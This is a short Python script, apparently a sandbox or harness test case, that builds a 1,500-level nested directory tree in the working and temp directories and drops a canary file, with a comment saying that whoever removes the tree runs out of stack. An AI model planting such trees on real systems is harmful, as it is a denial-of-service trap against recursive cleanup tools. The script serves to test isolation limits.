# tries: makes fifteen hundred folders, each in the one before: whoever removes them runs out of stack
# walls: own places to write
# canary: file
# %%
import os
import tempfile

here = os.getcwd()
for start in (here, tempfile.gettempdir()):
    os.chdir(start)
    try:
        os.mkdir("attack-@ME@")
        os.chdir("attack-@ME@")
        for _ in range(1500):
            os.mkdir("d")
            os.chdir("d")
        open("file", "w").write("answers")
    except OSError as error:
        print(error)
os.chdir(here)
